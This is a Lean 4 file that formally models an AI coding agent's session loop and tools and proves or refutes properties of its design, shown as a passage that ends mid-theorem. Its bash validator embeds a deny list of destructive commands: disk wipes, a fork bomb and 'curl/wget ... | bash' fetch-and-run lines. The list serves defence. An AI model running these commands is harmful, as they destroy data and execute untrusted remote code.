import Mathlib

/-!
Verification of the aigo-kode agent runtime core: a shallow embedding of
the session loop, the tool registry and the individual tools
(`internal/core/session.go`, `internal/core/tool.go`,
`internal/tools/*.go`), together with proofs of the behavioural
properties stated in the design document.

Conventions of the embedding:
* Go's dynamically typed tool input `map[string]interface{}` becomes the
  type `GoValue` with an association-list map `InputMap`; a Go type
  assertion `v.(T)` becomes a partial projection out of `GoValue`.
* Go `float64` JSON numbers are represented by `GoValue.num` carrying an
  integer payload: every number the verified code paths feed through
  `int(x)` is integral, and the distinction the code makes is between the
  Go *types* `int` and `float64`, which the two constructors keep apart.
* The filesystem is an association list from path to file contents; a
  missing path models a non-existent file.
* A Go function returning `(T, error)` becomes `Except String T` when the
  error aborts the call, and a result field of type `Option String` when
  the error is data inside a result value.
-/

namespace AigoKode

/-- A dynamically typed Go value crossing the tool-input boundary
(`map[string]interface{}` entries). `int` is a Go `int`, `num` a Go
`float64` (integral payload, see the module comment), `null` is Go `nil`. -/
inductive GoValue where
  | str (s : String)
  | int (n : Int)
  | num (n : Int)
  | bool (b : Bool)
  | arr (xs : List GoValue)
  | null

/-- Go `map[string]interface{}` for tool inputs, as an association list. -/
def InputMap := List (String × GoValue)

/-- Map lookup `input["k"]` (`nil`/absent ⇒ `none`). -/
def lookupInput (input : InputMap) (k : String) : Option GoValue :=
  match input with
  | [] => none
  | (k', v) :: rest => if k' = k then some v else lookupInput rest k

/-- Go type assertion `v.(string)` on an optional map entry. -/
def asGoString : Option GoValue → Option String
  | some (.str s) => some s
  | _ => none

/-- Go type assertion `v.(int)` on an optional map entry. -/
def asGoInt : Option GoValue → Option Int
  | some (.int n) => some n
  | _ => none

/-- Go type assertion `v.(float64)` on an optional map entry. -/
def asGoFloat : Option GoValue → Option Int
  | some (.num n) => some n
  | _ => none

/-- Go type assertion `v.(bool)` on an optional map entry. -/
def asGoBool : Option GoValue → Option Bool
  | some (.bool b) => some b
  | _ => none

/-- Holds when `needle` starts `haystack` (character-wise). -/
def leadsWith : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => a == b && leadsWith as bs

/-- Holds when `needle` occurs somewhere in `haystack` (character-wise), the
recursion of Go `strings.Contains`. -/
def occursIn (needle : List Char) : List Char → Bool
  | [] => needle.isEmpty
  | c :: rest => leadsWith needle (c :: rest) || occursIn needle rest

/-- Go `strings.Contains(s, sub)`. -/
def strContains (s sub : String) : Bool :=
  occursIn sub.toList s.toList

/-- The deny-list of destructive command substrings in
`BashTool.ValidateInput` (`internal/tools/bash_tool.go`). -/
def bannedCommands : List String :=
  [ "rm -rf /",
    "rm -rf /*",
    ":()\x7b :|:& \x7d;:",
    "> /dev/sda",
    "dd if=/dev/random of=/dev/sda",
    "mv /* /dev/null",
    "wget -O- http://example.com/script.sh | bash",
    "curl -s http://example.com/script.sh | bash" ]

/-- Embeds `BashTool.ValidateInput`: requires a non-empty string command, blocks
deny-listed substrings, and bounds an optional integer timeout to
(0, 300]. Returns `some errorMessage` on rejection, `none` on success. -/
def bashValidateInput (input : InputMap) : Option String :=
  match lookupInput input "command" with
  | none => some "command is required"
  | some commandVal =>
    match commandVal with
    | .str command =>
      if command = "" then some "command cannot be empty"
      else if bannedCommands.any (fun banned => strContains command banned) then
        some "command contains potentially dangerous operations"
      else
        match lookupInput input "timeout" with
        | none => none
        | some timeoutVal =>
          match timeoutVal with
          | .int timeout =>
            if timeout ≤ 0 then some "timeout must be positive"
            else if timeout > 300 then some "timeout cannot exceed 300 seconds"
            else none
          | _ => some "timeout must be an integer"
    | _ => some "command must be a string"

/-! ## Core data model (`internal/core/tool.go`, `internal/core/session.go`)

The model client (`AIModel`) is an external collaborator of the session
loop and is not part of this embedding; `Query`/`StreamQuery` only
forward to it. A tool, as the session sees it, is its name plus its
behavioural methods; `Execute`'s Go signature
`(interface{}, error)` becomes a pure pair `(GoValue, Option String)`. -/

/-- A model-issued tool invocation request (`core.ToolCall`). -/
structure ToolCallRec where
  toolName : String
  input : InputMap
  id : String

/-- A conversation message (`core.Message`): role, dynamic content,
and any tool calls carried by an assistant response. -/
structure Message where
  role : String
  content : GoValue
  toolCalls : List ToolCallRec

/-- The result of one tool invocation (`core.ToolUseResult`). -/
structure ToolUseResult where
  toolName : String
  input : InputMap
  output : GoValue
  error : Option String

/-- The tool contract (`core.Tool`) as the session consumes it. -/
structure Tool where
  name : String
  validateInput : InputMap → Option String
  execute : InputMap → GoValue × Option String
  requiresPermission : InputMap → Bool
  isReadOnly : Bool

/-- Session configuration (`core.SessionConfig`); `Temperature float64`
is represented as a rational. -/
structure SessionConfig where
  projectPath : String
  systemPrompt : String
  maxTokens : Int
  temperature : ℚ

/-- An interactive session (`core.Session`): conversation history,
active tool set and configuration (the model client is external). -/
structure Session where
  messages : List Message
  tools : List Tool
  config : SessionConfig

/-- The default configuration built by `NewSession` when `config == nil`. -/
def defaultSessionConfig : SessionConfig :=
  { projectPath := ""
    maxTokens := 4096
    temperature := 7/10
    systemPrompt :=
      "You are a helpful AI assistant that can use tools to help with coding tasks." }

/-- Embeds `core.NewSession`: seeds the history with the single system message. -/
def NewSession (tools : List Tool) (config : Option SessionConfig) : Session :=
  let config := config.getD defaultSessionConfig
  { messages := [{ role := "system", content := .str config.systemPrompt, toolCalls := [] }]
    tools := tools
    config := config }

/-- Embeds `Session.AddUserMessage`. -/
def Session.AddUserMessage (s : Session) (content : String) : Session :=
  { s with messages := s.messages ++ [{ role := "user", content := .str content, toolCalls := [] }] }

/-- Embeds `Session.AddAssistantMessage`. -/
def Session.AddAssistantMessage (s : Session) (content : String) : Session :=
  { s with messages := s.messages ++ [{ role := "assistant", content := .str content, toolCalls := [] }] }

/-- Embeds `Session.AddToolResult` (the name and id parameters are accepted and,
as in the source, unused). -/
def Session.AddToolResult (s : Session) (toolName : String) (id : String)
    (result : GoValue) : Session :=
  { s with messages := s.messages ++ [{ role := "tool", content := result, toolCalls := [] }] }

/-- Embeds `Session.ExecuteTool`: finds the first tool with the requested name,
evaluates the advisory permission predicate, validates the input
(failure ⇒ a `ToolUseResult` carrying the error is returned with a `nil`
Go error), executes, and appends the raw output to the history. The
returned pair is the session after the call plus the Go
`(*ToolUseResult, error)` return. -/
def Session.ExecuteTool (s : Session) (toolCall : ToolCallRec) :
    Session × Except String ToolUseResult :=
  match s.tools.find? (fun t => t.name = toolCall.toolName) with
  | none => (s, .error ("tool not found: " ++ toolCall.toolName))
  | some tool =>
    let _ := tool.requiresPermission toolCall.input
    match tool.validateInput toolCall.input with
    | some err =>
      (s, .ok { toolName := toolCall.toolName, input := toolCall.input
                output := .null, error := some err })
    | none =>
      let (output, err) := tool.execute toolCall.input
      let result : ToolUseResult :=
        { toolName := toolCall.toolName, input := toolCall.input
          output := output, error := err }
      (s.AddToolResult toolCall.toolName toolCall.id output, .ok result)

/-- One history-mutating operation on a session, for stating invariants
over arbitrary operation sequences. -/
inductive SessionOp where
  | addUser (content : String)
  | addAssistant (content : String)
  | addToolResult (toolName id : String) (result : GoValue)
  | execTool (call : ToolCallRec)

/-- Apply one operation to a session (the result value of `ExecuteTool`
is dropped; only the state matters for history invariants). -/
def applyOp (s : Session) : SessionOp → Session
  | .addUser content => s.AddUserMessage content
  | .addAssistant content => s.AddAssistantMessage content
  | .addToolResult toolName id result => s.AddToolResult toolName id result
  | .execTool call => (s.ExecuteTool call).1

/-- Apply a sequence of operations left to right. -/
def runOps (s : Session) (ops : List SessionOp) : Session :=
  ops.foldl applyOp s

/-! ## Tool registry (`internal/tools/registry.go`)

Tools are stateless values, so a factory `func() core.Tool` is modelled
by the tool value it returns. -/

/-- Embeds `tools.ToolRegistry`: a name-keyed factory table. -/
structure ToolRegistry where
  tools : List (String × Tool)

/-- Embeds `ToolRegistry.GetTool`: lookup by name; an unregistered name yields
`none` (Go `nil`). -/
def ToolRegistry.GetTool (r : ToolRegistry) (name : String) : Option Tool :=
  match r.tools.find? (fun p => p.1 = name) with
  | some p => some p.2
  | none => none

/-! ## Filesystem model

Shared by the file tools: an association list from path to file
contents; lookup finds the most recent write. -/

/-- The modelled filesystem: path ↦ contents of the regular files. -/
def FileSystem := List (String × String)

/-- Models `os.Stat` + `os.ReadFile` success: the contents at a path. -/
def lookupFS (fs : FileSystem) (path : String) : Option String :=
  match fs with
  | [] => none
  | (p, c) :: rest => if p = path then some c else lookupFS rest path

/-- Writing a file: the new binding shadows any previous one. -/
def writeFS (fs : FileSystem) (path content : String) : FileSystem :=
  (path, content) :: fs

/-! ## String helpers shared by the file tools -/

/-- Embeds `strings.Split(s, "\n")` on character lists: split at every newline,
keeping empty segments (`[[]]` for the empty input). -/
def splitNlChars : List Char → List (List Char)
  | [] => [[]]
  | c :: rest =>
    let r := splitNlChars rest
    if c = '\n' then [] :: r
    else
      match r with
      | [] => [[c]]
      | l :: ls => (c :: l) :: ls

/-- Embeds `strings.Split(s, "\n")`. -/
def splitNl (s : String) : List String :=
  (splitNlChars s.toList).map List.asString

/-- Embeds `strings.Join(segments, "\n")` on character lists. -/
def joinNlChars : List (List Char) → List Char
  | [] => []
  | [l] => l
  | l :: ls => l ++ '\n' :: joinNlChars ls

/-- Embeds `strings.Join(lines, "\n")`. -/
def joinNl (lines : List String) : String :=
  (joinNlChars (lines.map String.toList)).asString

/-- Embeds `filepath.Ext` scanned over the reversed path: walk back from the
end, stop at a path separator with no extension, or return from the
final dot; `acc` is the suffix already walked, in original order. -/
def goExtRev (acc : List Char) : List Char → List Char
  | [] => []
  | c :: rest =>
    if c = '/' then []
    else if c = '.' then c :: acc
    else goExtRev (c :: acc) rest

/-- Embeds `filepath.Ext(path)`: the suffix from the final dot of the final
path element, or the empty string. -/
def goExt (path : String) : String :=
  (goExtRev [] path.toList.reverse).asString

/-- Embeds `strings.ToLower` (ASCII, which covers every extension compared
against the image list). -/
def strToLower (s : String) : String :=
  (s.toList.map Char.toLower).asString

/-- One step of Go `strings.Replace(s, old, new, -1)` for non-empty
`old`: at each position, either splice `new` for a leading occurrence of
`old` or keep the character. -/
def replaceChars (old new : List Char) : List Char → List Char
  | [] => []
  | c :: rest =>
    if leadsWith old (c :: rest) ∧ old ≠ [] then
      new ++ replaceChars old new (List.drop (old.length - 1) rest)
    else
      c :: replaceChars old new rest
termination_by l => l.length
decreasing_by
  all_goals simp only [List.length_drop, List.length_cons]
  all_goals omega

/-- Embeds `strings.Replace(content, old, new, -1)` (global literal
replacement; the tools only reach it with non-empty `old`). -/
def strReplaceAll (s old new : String) : String :=
  (replaceChars old.toList new.toList s.toList).asString

/-! ## File read tool (`internal/tools/file_read_tool.go`) -/

/-- Embeds `tools.FileReadToolOutput` (`typ` is the Go `Type` field; empty
strings model the omitted optional fields). -/
structure FileReadToolOutput where
  typ : String
  content : String
  error : String

/-- Extensions treated as images by `FileReadTool.Execute`. -/
def imageExts : List String :=
  [".png", ".jpg", ".jpeg", ".gif", ".bmp", ".webp"]

/-- Embeds `FileReadTool.Execute`: path extraction, existence check, image
detection by extension, then line-oriented offset/limit slicing. -/
def fileReadExecute (fs : FileSystem) (input : InputMap) :
    Except String FileReadToolOutput :=
  match asGoString (lookupInput input "file_path") with
  | none => .error "file_path is required and must be a string"
  | some filePath =>
    if filePath = "" then .error "file_path is required and must be a string"
    else
      let offset : Int := (asGoFloat (lookupInput input "offset")).getD 0
      let limit : Int := (asGoFloat (lookupInput input "limit")).getD 0
      match lookupFS fs filePath with
      | none => .ok { typ := "error", content := "", error := "File does not exist" }
      | some content =>
        if imageExts.contains (strToLower (goExt filePath)) then
          .ok { typ := "image", content := "", error := "" }
        else
          let lines := splitNl content
          let lines :=
            if 0 < offset ∧ offset < (lines.length : Int) then lines.drop offset.toNat
            else lines
          let lines :=
            if 0 < limit ∧ limit < (lines.length : Int) then lines.take limit.toNat
            else lines
          .ok { typ := "text", content := joinNl lines, error := "" }

/-! ## File write tool (`internal/tools/file_write_tool.go`) -/

/-- Embeds `tools.FileWriteToolOutput`. -/
structure FileWriteToolOutput where
  success : Bool
  error : String

/-- Embeds `FileWriteTool.Execute`: extracts path/content and the
`append`/`leading_newline`/`trailing_newline` flags (leading defaults to
the append flag, trailing defaults to true but only applies to
non-append writes), then overwrites or appends. Directory creation
always succeeds in the model. The returned pair is the filesystem after
the call plus the tool output. -/
def fileWriteExecute (fs : FileSystem) (input : InputMap) :
    Except String (FileSystem × FileWriteToolOutput) :=
  match asGoString (lookupInput input "file_path") with
  | none => .error "file_path is required and must be a string"
  | some filePath =>
    if filePath = "" then .error "file_path is required and must be a string"
    else
      match asGoString (lookupInput input "content") with
      | none => .error "content is required and must be a string"
      | some content =>
        let append := (asGoBool (lookupInput input "append")).getD false
        let leadingNewline := (asGoBool (lookupInput input "leading_newline")).getD append
        let trailingNewline := (asGoBool (lookupInput input "trailing_newline")).getD true
        let content := if leadingNewline then "\n" ++ content else content
        let content := if trailingNewline ∧ ¬ append then content ++ "\n" else content
        if append then
          let old := (lookupFS fs filePath).getD ""
          .ok (writeFS fs filePath (old ++ content), { success := true, error := "" })
        else
          .ok (writeFS fs filePath content, { success := true, error := "" })

/-! ## File edit tool (second file of `internal/tools`, `FileEditTool`) -/

/-- Embeds `tools.FileEditToolOutput`. -/
structure FileEditToolOutput where
  success : Bool
  error : String

/-- Embeds `FileEditTool.Execute`: extracts path and the non-empty old text and
the new text, reads the file, performs a global literal replacement, and
treats an unchanged result as "old text not found" (a failure result,
with the file left untouched). -/
def fileEditExecute (fs : FileSystem) (input : InputMap) :
    Except String (FileSystem × FileEditToolOutput) :=
  match asGoString (lookupInput input "file_path") with
  | none => .error "file_path is required and must be a string"
  | some filePath =>
    if filePath = "" then .error "file_path is required and must be a string"
    else
      match asGoString (lookupInput input "old_text") with
      | none => .error "old_text is required and must be a string"
      | some oldText =>
        if oldText = "" then .error "old_text is required and must be a string"
        else
          match asGoString (lookupInput input "new_text") with
          | none => .error "new_text is required and must be a string"
          | some newText =>
            match lookupFS fs filePath with
            | none =>
              .ok (fs, { success := false
                         error := "Failed to read file: file does not exist" })
            | some content =>
              let newContent := strReplaceAll content oldText newText
              if newContent = content then
                .ok (fs, { success := false, error := "Old text not found in file" })
              else
                .ok (writeFS fs filePath newContent, { success := true, error := "" })

/-! ## Content search tool (`GrepTool`)

`filepath.Glob` depends on the host filesystem; the embedding takes the
resolver as a function parameter `glob`, with `[]` covering both the
error and the no-match case (in which the path itself is used). -/

/-- One search hit (`tools.GrepMatch`); `line` is 1-based. -/
structure GrepMatch where
  file : String
  line : Nat
  content : String

/-- Embeds `tools.GrepToolOutput` (`matchList` is the Go `Matches` field). -/
structure GrepToolOutput where
  matchList : List GrepMatch
  error : String

/-- The inner line loop of `GrepTool.Execute`: append a match for every
line containing the pattern, breaking as soon as the accumulated match
count reaches `maxMatches`. -/
def scanLines (file pattern : String) (maxMatches : Int) :
    List String → Nat → List GrepMatch → List GrepMatch
  | [], _, acc => acc
  | line :: rest, i, acc =>
    if strContains line pattern then
      let acc2 := acc ++ [{ file := file, line := i + 1, content := line }]
      if maxMatches ≤ (acc2.length : Int) then acc2
      else scanLines file pattern maxMatches rest (i + 1) acc2
    else scanLines file pattern maxMatches rest (i + 1) acc

/-- The per-resolved-file loop of `GrepTool.Execute`: unreadable paths
are skipped (no cap check, mirroring the `continue`); after scanning a
readable file the loop breaks once the cap is reached. -/
def scanResolved (fs : FileSystem) (pattern : String) (maxMatches : Int) :
    List String → List GrepMatch → List GrepMatch
  | [], acc => acc
  | filePath :: rest, acc =>
    match lookupFS fs filePath with
    | none => scanResolved fs pattern maxMatches rest acc
    | some content =>
      let acc2 := scanLines filePath pattern maxMatches (splitNl content) 0 acc
      if maxMatches ≤ (acc2.length : Int) then acc2
      else scanResolved fs pattern maxMatches rest acc2

/-- The outer path loop of `GrepTool.Execute`: resolve each path through
the glob (falling back to the literal path), scan the resolved files,
and break once the cap is reached. -/
def scanPaths (glob : String → List String) (fs : FileSystem) (pattern : String)
    (maxMatches : Int) : List String → List GrepMatch → List GrepMatch
  | [], acc => acc
  | path :: rest, acc =>
    let resolved := glob path
    let resolved := if resolved.isEmpty then [path] else resolved
    let acc2 := scanResolved fs pattern maxMatches resolved acc
    if maxMatches ≤ (acc2.length : Int) then acc2
    else scanPaths glob fs pattern maxMatches rest acc2

/-- The `file_paths` extraction of `GrepTool.Execute`: an array keeps
its non-empty string elements, a non-empty string becomes a singleton,
anything else is empty (and is rejected by the caller). -/
def extractFilePaths : Option GoValue → List String
  | some (.arr xs) =>
    xs.filterMap (fun v =>
      match v with
      | .str p => if p = "" then none else some p
      | _ => none)
  | some (.str p) => if p = "" then [] else [p]
  | _ => []

/-- Embeds `GrepTool.Execute`: pattern and path extraction, the optional global
match cap (default 100), then the nested scanning loops. -/
def grepExecute (glob : String → List String) (fs : FileSystem) (input : InputMap) :
    Except String GrepToolOutput :=
  match asGoString (lookupInput input "pattern") with
  | none => .error "pattern is required and must be a string"
  | some pattern =>
    if pattern = "" then .error "pattern is required and must be a string"
    else
      let filePaths := extractFilePaths (lookupInput input "file_paths")
      if filePaths.isEmpty then
        .error "file_paths is required and must be a string or array of strings"
      else
        let maxMatches : Int := (asGoFloat (lookupInput input "max_matches")).getD 100
        .ok { matchList := scanPaths glob fs pattern maxMatches filePaths [], error := "" }

/-! ## Test fixtures (concrete values used to instantiate theorems) -/

/-- A tool whose validation rejects every input, exercising the
validation-failure path of `Session.ExecuteTool`. -/
def rejectAllTool : Tool :=
  { name := "Reject"
    validateInput := fun _ => some "invalid input"
    execute := fun _ => (.null, none)
    requiresPermission := fun _ => false
    isReadOnly := true }

/-! ## Theorems -/

/-- Every history-mutating session operation only appends messages, and
none of the appended messages has the system role. -/
theorem applyOp_extendsHistory (s : Session) (op : SessionOp) :
    ∃ tail, (applyOp s op).messages = s.messages ++ tail ∧
      ∀ m ∈ tail, m.role ≠ "system" := by
  cases op with
  | addUser content =>
    refine ⟨[{ role := "user", content := .str content, toolCalls := [] }], rfl, ?_⟩
    intro m hm
    simp only [List.mem_singleton] at hm
    subst hm
    simp
  | addAssistant content =>
    refine ⟨[{ role := "assistant", content := .str content, toolCalls := [] }], rfl, ?_⟩
    intro m hm
    simp only [List.mem_singleton] at hm
    subst hm
    simp
  | addToolResult toolName id result =>
    refine ⟨[{ role := "tool", content := result, toolCalls := [] }], rfl, ?_⟩
    intro m hm
    simp only [List.mem_singleton] at hm
    subst hm
    simp
  | execTool call =>
    cases hfind : s.tools.find? (fun t => t.name = call.toolName) with
    | none =>
      refine ⟨[], ?_, by simp⟩
      simp [applyOp, Session.ExecuteTool, hfind]
    | some tool =>
      cases hval : tool.validateInput call.input with
      | some err =>
        refine ⟨[], ?_, by simp⟩
        simp [applyOp, Session.ExecuteTool, hfind, hval]
      | none =>
        rcases hexec : tool.execute call.input with ⟨output, err⟩
        refine ⟨[{ role := "tool", content := output, toolCalls := [] }], ?_, ?_⟩
        · simp [applyOp, Session.ExecuteTool, hfind, hval, hexec, Session.AddToolResult]
        · intro m hm
          simp only [List.mem_singleton] at hm
          subst hm
          simp

/-- Over any operation sequence, the history only grows by non-system
messages. -/
theorem runOps_extendsHistory (s : Session) (ops : List SessionOp) :
    ∃ tail, (runOps s ops).messages = s.messages ++ tail ∧
      ∀ m ∈ tail, m.role ≠ "system" := by
  induction ops generalizing s with
  | nil => exact ⟨[], by simp [runOps], by simp⟩
  | cons op ops ih =>
    obtain ⟨t1, h1, hr1⟩ := applyOp_extendsHistory s op
    obtain ⟨t2, h2, hr2⟩ := ih (applyOp s op)
    refine ⟨t1 ++ t2, ?_, ?_⟩
    · show (runOps (applyOp s op) ops).messages = _
      rw [h2, h1, List.append_assoc]
    · intro m hm
      rcases List.mem_append.mp hm with h | h
      · exact hr1 m h
      · exact hr2 m h

/-- C2: every session produced by `NewSession`, after any finite
sequence of `AddUserMessage`, `AddAssistantMessage`, `AddToolResult`
and `ExecuteTool` operations, still begins with the single system
message inserted at construction, contains exactly one system-role
message, and every operation only appends to the history (no message is
ever removed). -/
theorem C2_system_message_invariant (tools : List Tool) (config : Option SessionConfig)
    (ops : List SessionOp) :
    (runOps (NewSession tools config) ops).messages.head? =
      some { role := "system"
             content := .str (config.getD defaultSessionConfig).systemPrompt
             toolCalls := [] } ∧
    (runOps (NewSession tools config) ops).messages.countP
      (fun m => m.role == "system") = 1 ∧
    ∀ s : Session, ∀ op : SessionOp,
      ∃ tail, (applyOp s op).messages = s.messages ++ tail := by
  obtain ⟨tail, h, hr⟩ := runOps_extendsHistory (NewSession tools config) ops
  refine ⟨?_, ?_, ?_⟩
  · rw [show (NewSession tools config).messages =
        [{ role := "system"
           content := .str (config.getD defaultSessionConfig).systemPrompt
           toolCalls := [] }] from rfl] at h
    rw [h]
    rfl
  · rw [show (NewSession tools config).messages =
        [{ role := "system"
           content := .str (config.getD defaultSessionConfig).systemPrompt
           toolCalls := [] }] from rfl] at h
    rw [h, List.countP_append]
    have hz : tail.countP (fun m => m.role == "system") = 0 := by
      rw [List.countP_eq_zero]
      intro m hm
      simpa using hr m hm
    rw [hz]
    rfl
  · intro s op
    obtain ⟨t, ht, _⟩ := applyOp_extendsHistory s op
    exact ⟨t, ht⟩

/-- C1 refuted at a concrete input: a found tool whose validation fails
makes `ExecuteTool` return the `ToolUseResult` carrying the error, but
the history does NOT grow by one message — it is left unchanged. -/
theorem C1_counterexample :
    (((NewSession [rejectAllTool] none).ExecuteTool ⟨"Reject", [], "1"⟩).2 =
      .ok { toolName := "Reject", input := [], output := .null
            error := some "invalid input" }) ∧
    ¬ (((NewSession [rejectAllTool] none).ExecuteTool ⟨"Reject", [], "1"⟩).1.messages.length =
        (NewSession [rejectAllTool] none).messages.length + 1) := by
  exact ⟨rfl, by decide⟩

/-- C1 (amended): when the tool is found but its input fails
`ValidateInput`, `Session.ExecuteTool` returns (with a `nil` Go error) a
`ToolUseResult` carrying the validation error, and leaves the
conversation history unchanged — the validation-failure result is not
appended. -/
theorem C1_validation_failure_result (s : Session) (call : ToolCallRec) (tool : Tool)
    (err : String)
    (hfind : s.tools.find? (fun t => t.name = call.toolName) = some tool)
    (hval : tool.validateInput call.input = some err) :
    s.ExecuteTool call =
      (s, .ok { toolName := call.toolName, input := call.input
                output := .null, error := some err }) := by
  simp [Session.ExecuteTool, hfind, hval]

/-- C1 (amended) exercised at a concrete input. -/
theorem C1_validation_failure_result_witness :
    (NewSession [rejectAllTool] none).ExecuteTool ⟨"Reject", [], "1"⟩ =
      (NewSession [rejectAllTool] none,
       .ok { toolName := "Reject", input := [], output := .null
             error := some "invalid input" }) :=
  C1_validation_failure_result (NewSession [rejectAllTool] none)
    ⟨"Reject", [], "1"⟩ rejectAllTool "invalid input" rfl rfl

/-- Splitting never produces an empty list of segments. -/
theorem splitNlChars_ne_nil (l : List Char) : splitNlChars l ≠ [] := by
  cases l with
  | nil => simp [splitNlChars]
  | cons c rest =>
    simp only [splitNlChars]
    split
    · simp
    · split <;> simp

/-- Joining undoes splitting on character lists. -/
theorem joinNlChars_splitNlChars (l : List Char) :
    joinNlChars (splitNlChars l) = l := by
  induction l with
  | nil => rfl
  | cons c rest ih =>
    simp only [splitNlChars]
    by_cases hc : c = '\n'
    · subst hc
      rw [if_pos rfl]
      cases hr : splitNlChars rest with
      | nil => exact absurd hr (splitNlChars_ne_nil rest)
      | cons a as =>
        show [] ++ '\n' :: joinNlChars (a :: as) = '\n' :: rest
        rw [← hr, ih]
        rfl
    · rw [if_neg hc]
      cases hr : splitNlChars rest with
      | nil => exact absurd hr (splitNlChars_ne_nil rest)
      | cons a as =>
        cases as with
        | nil =>
          show c :: a = c :: rest
          have ha : rest = a := by
            rw [← ih, hr]
            rfl
          rw [ha]
        | cons b bs =>
          show (c :: a) ++ '\n' :: joinNlChars (b :: bs) = c :: rest
          have ha : rest = a ++ '\n' :: joinNlChars (b :: bs) := by
            rw [← ih, hr]
            rfl
          rw [ha]
          rfl

/-- Joining undoes splitting on strings: reading a file with neither
offset nor limit applied reproduces its contents. -/
theorem joinNl_splitNl (s : String) : joinNl (splitNl s) = s := by
  unfold joinNl splitNl
  rw [List.map_map]
  have hmap : String.toList ∘ List.asString = id := by
    funext l
    rfl
  rw [hmap, List.map_id, joinNlChars_splitNlChars, String.asString_toList]

/-- A literal global replacement of a pattern that does not occur is the
identity (character-list version). -/
theorem replaceChars_no_occurrence (old new l : List Char)
    (h : occursIn old l = false) : replaceChars old new l = l := by
  induction l with
  | nil => simp [replaceChars]
  | cons c rest ih =>
    simp only [occursIn, Bool.or_eq_false_iff] at h
    rw [replaceChars, if_neg (by simp [h.1]), ih h.2]

/-- Embeds the fact that `strings.Replace` with an absent pattern returns the input. -/
theorem strReplaceAll_eq_self (s old new : String)
    (h : strContains s old = false) : strReplaceAll s old new = s := by
  unfold strReplaceAll
  rw [replaceChars_no_occurrence _ _ _ h, String.asString_toList]

/-- C7: when the old text does not occur in the file, `FileEditTool`'s
execution leaves the filesystem unchanged and returns a failure result
with the old-text-not-found error, never a success result. -/
theorem C7_edit_old_text_absent (fs : FileSystem)
    (filePath oldText newText content : String)
    (hfp : filePath ≠ "") (hold : oldText ≠ "")
    (hfs : lookupFS fs filePath = some content)
    (hno : strContains content oldText = false) :
    fileEditExecute fs
        [("file_path", .str filePath), ("old_text", .str oldText),
         ("new_text", .str newText)] =
      .ok (fs, { success := false, error := "Old text not found in file" }) := by
  have hrepl := strReplaceAll_eq_self content oldText newText hno
  simp [fileEditExecute, lookupInput, asGoString, hfp, hold, hfs, hrepl]

/-- C7 exercised at a concrete input: editing a file that does not
contain the old text fails without touching the filesystem. -/
theorem C7_edit_old_text_absent_witness :
    fileEditExecute [("a.txt", "hello world")]
        [("file_path", .str "a.txt"), ("old_text", .str "xyz"),
         ("new_text", .str "abc")] =
      .ok ([("a.txt", "hello world")],
           { success := false, error := "Old text not found in file" }) :=
  C7_edit_old_text_absent [("a.txt", "hello world")] "a.txt" "xyz" "abc"
    "hello world" (by decide) (by decide) rfl (by decide)

/-- C3 refuted at a concrete input: reading a two-line file with
`offset = 5` (≥ the line count) returns the FULL content, not the empty
remaining slice the claim promises. -/
theorem C3_counterexample :
    fileReadExecute [("f.txt", "a\nb")]
        [("file_path", .str "f.txt"), ("offset", .num 5)] =
      .ok { typ := "text", content := "a\nb", error := "" } ∧
    "a\nb" ≠ "" := by
  exact ⟨rfl, by decide⟩

/-- C3 (amended): offset and limit apply to the line-split content, but
an offset ≥ the total line count is ignored — the guard
`offset > 0 && offset < len(lines)` fails — so `Execute` returns the
full, unsliced content (still not an error). -/
theorem C3_offset_beyond_line_count (fs : FileSystem) (filePath content : String)
    (offset : Int)
    (hfp : filePath ≠ "")
    (hfs : lookupFS fs filePath = some content)
    (himg : imageExts.contains (strToLower (goExt filePath)) = false)
    (hoff : ((splitNl content).length : Int) ≤ offset) :
    fileReadExecute fs [("file_path", .str filePath), ("offset", .num offset)] =
      .ok { typ := "text", content := content, error := "" } := by
  have hnoslice : ¬ (0 < offset ∧ offset < ((splitNl content).length : Int)) := by
    omega
  have himg' : strToLower (goExt filePath) ∉ imageExts := by
    simpa using himg
  simp [fileReadExecute, lookupInput, asGoString, asGoFloat, hfp, hfs, himg',
    hnoslice, joinNl_splitNl]

/-- C3 (amended) exercised at a concrete input. -/
theorem C3_offset_beyond_line_count_witness :
    fileReadExecute [("g.txt", "x\ny")]
        [("file_path", .str "g.txt"), ("offset", .num 7)] =
      .ok { typ := "text", content := "x\ny", error := "" } :=
  C3_offset_beyond_line_count [("g.txt", "x\ny")] "g.txt" "x\ny" 7
    (by decide) rfl (by decide) (by decide)

/-- C4: the write-append-read scenario evaluated on the code. Writing
"alpha" with default flags stores "alpha\n" (trailing-newline default),
appending "\nbeta" prefixes the leading-newline default, and the read
returns "alpha\n\n\nbeta" — not the "alpha\nbeta" the claim (and the
repository's own `TestFileWriteTool` expectations) demand. -/
theorem C4_scenario_divergence :
    fileWriteExecute [] [("file_path", .str "f"), ("content", .str "alpha")] =
      .ok ([("f", "alpha\n")], { success := true, error := "" }) ∧
    fileWriteExecute [("f", "alpha\n")]
        [("file_path", .str "f"), ("content", .str "\nbeta"), ("append", .bool true)] =
      .ok ([("f", "alpha\n\n\nbeta"), ("f", "alpha\n")],
           { success := true, error := "" }) ∧
    fileReadExecute [("f", "alpha\n\n\nbeta"), ("f", "alpha\n")]
        [("file_path", .str "f")] =
      .ok { typ := "text", content := "alpha\n\n\nbeta", error := "" } ∧
    "alpha\n\n\nbeta" ≠ "alpha\nbeta" := by
  exact ⟨rfl, rfl, rfl, by decide⟩

/-- C6: a tool call naming a tool registered neither in the registry nor
in the session's tool set makes `ToolRegistry.GetTool` return no tool and
`Session.ExecuteTool` return the "tool not found" error with the session
(and hence its conversation history) unchanged. -/
theorem C6_unknown_tool_lookup (r : ToolRegistry) (s : Session) (call : ToolCallRec)
    (hreg : ∀ p ∈ r.tools, p.1 ≠ call.toolName)
    (hses : ∀ t ∈ s.tools, t.name ≠ call.toolName) :
    r.GetTool call.toolName = none ∧
    s.ExecuteTool call = (s, .error ("tool not found: " ++ call.toolName)) := by
  have hfr : r.tools.find? (fun p => p.1 = call.toolName) = none := by
    rw [List.find?_eq_none]
    intro p hp
    simpa using hreg p hp
  have hfs : s.tools.find? (fun t => t.name = call.toolName) = none := by
    rw [List.find?_eq_none]
    intro t ht
    simpa using hses t ht
  constructor
  · simp [ToolRegistry.GetTool, hfr]
  · simp [Session.ExecuteTool, hfs]

/-- C6 exercised at a concrete input: an empty registry and a fresh
session with no tools. -/
theorem C6_unknown_tool_lookup_witness :
    ToolRegistry.GetTool ⟨[]⟩ "Nope" = none ∧
    (NewSession [] none).ExecuteTool ⟨"Nope", [], "7"⟩ =
